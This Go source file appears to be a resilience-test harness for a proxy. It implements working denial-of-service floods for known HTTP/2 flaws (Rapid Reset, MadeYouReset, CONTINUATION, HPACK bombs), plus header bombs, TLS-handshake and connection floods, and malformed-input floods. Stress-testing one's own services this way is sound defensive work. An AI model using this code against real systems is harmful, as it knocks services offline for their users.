package main

import (
	"context"
	"errors"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood sends frames on a few connections of HTTP/2, as fast as they are read;
// one that the proxy ends is made anew.
func flood(ctx context.Context, a *attacker, connections int, send func(*frames) error) {
	each(ctx, connections, func(ctx context.Context, i int) {
		conn, err := a.way.tls(ctx, a.from(i), farData, "h2")
		if err != nil {
			pause(ctx, 100*time.Millisecond)
			return
		}
		defer until(ctx, conn)()
		gone := make(chan struct{})
		go func() { _, _ = io.Copy(io.Discard, conn); close(gone) }()
		f := newFrames(conn, farData, a.sly)
		if f.open() != nil || send(f) != nil {
			pause(ctx, 10*time.Millisecond)
			return
		}
		select { // what was sent is for the proxy to end
		case <-gone:
		case <-ctx.Done():
		}
	})
}

// streams calls one for stream after stream until it fails.
func streams(one func(id uint32) error) error {
	for id := uint32(1); id < 1<<30; id += 2 {
		if err := one(id); err != nil {
			return err
		}
	}
	return nil
}

// CVE-2023-44487.
func rapidReset(ctx context.Context, a *attacker) {
	flood(ctx, a, 8, func(f *frames) error {
		return streams(func(id uint32) error {
			return errors.Join(f.head(id, true), f.WriteRSTStream(id, http2.ErrCodeCancel))
		})
	})
}

// CVE-2025-8671.
func madeReset(ctx context.Context, a *attacker) {
	flood(ctx, a, 8, func(f *frames) error {
		return streams(func(id uint32) error {
			return errors.Join(f.head(id, true), f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0}))
		})
	})
}

// CVE-2023-45288.
func continuation(ctx context.Context, a *attacker) {
	flood(ctx, a, 8, func(f *frames) error {
		first := http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.fields(":method", "GET", ":scheme", "https", ":authority", f.host, ":path", "/1")}
		if err := f.WriteHeaders(first); err != nil {
			return err
		}
		more := f.fields("x-more", strings.Repeat("m", 1000))
		return streams(func(uint32) error { return f.WriteContinuation(1, false, more) })
	})
}

// CVE-2019-9515 and CVE-2019-9512.
func cheapFrames(ctx context.Context, a *attacker) {
	flood(ctx, a, 8, func(f *frames) error {
		return streams(func(uint32) error { return errors.Join(f.WriteSettings(), f.WritePing(false, [8]byte{1})) })
	})
}

// CVE-2019-9518.
func emptyData(ctx context.Context, a *attacker) {
	flood(ctx, a, 8, func(f *frames) error {
		if err := f.head(1, false); err != nil {
			return err
		}
		return streams(func(uint32) error { return f.WriteData(1, false, nil) })
	})
}

// headerBombs sends a hundred thousand fields, a line of a megabyte, a cookie
// of 64 KB, and 8,000 references to one large field of HPACK (CVE-2016-6581).
func headerBombs(ctx context.Context, a *attacker) {
	each(ctx, 16, func(ctx context.Context, i int) {
		if i%4 == 3 {
			a.references(ctx, i)
			return
		}
		const start = "GET /1 HTTP/1.1\r\nHost: " + farData + "\r\n"
		bomb := start + strings.Repeat("a: b\r\n", 100_000)
		switch i % 4 {
		case 1:
			bomb = start + "X-Long: " + strings.Repeat("l", 1<<20)
		case 2:
			bomb = start + "Cookie: a=" + strings.Repeat("c", 64<<10) + "\r\n\r\n"
		}
		conn, err := a.way.tls(ctx, a.from(i), farData, "http/1.1")
		if err != nil {
			pause(ctx, 100*time.Millisecond)
			return
		}
		defer until(ctx, conn)()
		if _, err := io.WriteString(conn, bomb); err == nil {
			_, _ = conn.Read(make([]byte, 1024))
		}
	})
}

func (a *attacker) references(ctx context.Context, i int) {
	conn, err := a.way.tls(ctx, a.from(i), farData, "h2")
	if err != nil {
		pause(ctx, 100*time.Millisecond)
		return
	}
	defer until(ctx, conn)()
	f := newFrames(conn, farData, a.home)
	large := make([]string, 0, 16_000)
	for range 8_000 {
		large = append(large, "x-large", strings.Repeat("l", 3000))
	}
	if errors.Join(f.open(), f.head(1, true, large...)) == nil {
		_ = conn.SetReadDeadline(time.Now().Add(second))
		_, _ = io.Copy(io.Discard, conn)
	}
}

// ask writes a GET of path.
func (f *frames) ask(id uint32, path string) error {
	f.block.Reset()
	for _, one := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", f.host}, {":path", path}, {"authorization", "Bearer " + f.bearer}} {
		_ = f.enc.WriteField(hpack.HeaderField{Name: one[0], Value: one[1]})
	}
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndStream: true, EndHeaders: true, BlockFragment: []byte(f.block.String())})
}

// nameFlood starts handshakes for names that nobody has asked for before.
func nameFlood(ctx context.Context, a *attacker) {
	const like = "aaaaaaaaaaaa.sharepoint.com"
	first := string(hello(like))
	paced(ctx, 10_000, 64, func(ctx context.Context, i int) {
		name := strings.ToLower(rand12(i)) + strings.TrimLeft(like, "a")
		a.flight(ctx, i, head(name)+strings.ReplaceAll(first, like, name))
	})
}

// rand12 is a label of twelve letters that differs for each i.
func rand12(i int) string {
	label := []byte("zzzzzzzzzzzz")
	x := uint64(i+1) * 0x9e3779b97f4a7c15 // Fibonacci hashing spreads them
	for n := range label {
		label[n] = 'a' + byte(x%26)
		x /= 26
	}
	return string(label)
}

// handshakeFlood starts handshakes for a known name and leaves.
func handshakeFlood(ctx context.Context, a *attacker) {
	first := head(farData) + string(hello(farData))
	paced(ctx, 10_000, 64, func(ctx context.Context, i int) { a.flight(ctx, i, first) })
}

// flight writes text at once, waits for what the proxy has worked out, and leaves.
func (a *attacker) flight(ctx context.Context, i int, text string) {
	conn, err := a.raw(ctx, i, []byte(text))
	if err != nil {
		return
	}
	defer conn.Close()
	_ = conn.SetReadDeadline(time.Now().Add(2 * second))
	got := make([]byte, 4096)
	for n := 0; n < 500; { // the answer to CONNECT is short, a server's flight is not
		m, err := conn.Read(got)
		if err != nil {
			return
		}
		n += m
	}
}

// connectionFlood opens what it can and keeps it: the budget, and closed at
// once beyond.
func connectionFlood(ctx context.Context, a *attacker) {
	paced(ctx, 5_000, 6_000, func(ctx context.Context, i int) {
		conn, err := a.raw(ctx, 0, []byte("C")) // from one address
		if err != nil {
			return
		}
		defer until(ctx, conn)()
		_ = conn.SetReadDeadline(time.Now().Add(20 * second))
		_, _ = conn.Read(make([]byte, 1))
	})
}

// garbage is what no parser takes.
func garbage(ctx context.Context, a *attacker) {
	texts := []string{
		head(site) + "SSH-2.0-OpenSSH_9.2\r\n", head(site) + "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
		head(farData) + "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00", "CONNECT a,b:443 HTTP/1.1\r\n\r\n", "\x00\x01\x02\x03\r\n\r\n",
		"GET http://" + farSignIn + "/ HTTP/1.1\r\nHost: " + farSignIn + "\r\n\r\n", "CONNECT login\u3002windows\u3002net:443 HTTP/1.1\r\n\r\n",
	}
	paced(ctx, 5_000, 64, func(ctx context.Context, i int) { a.flight(ctx, i, texts[i%len(texts)]) })
}

// slowNames asks for tunnels to names that the resolver takes long for.
func slowNames(ctx context.Context, a *attacker) {
	paced(ctx, 1_000, 9_600, func(ctx context.Context, i int) {
		conn, err := a.raw(ctx, i, []byte(head(rand12(i)+".slow.example")))
		if err != nil {
			return
		}
		defer until(ctx, conn)()
		_, _ = conn.Read(make([]byte, 1024))
	})
}
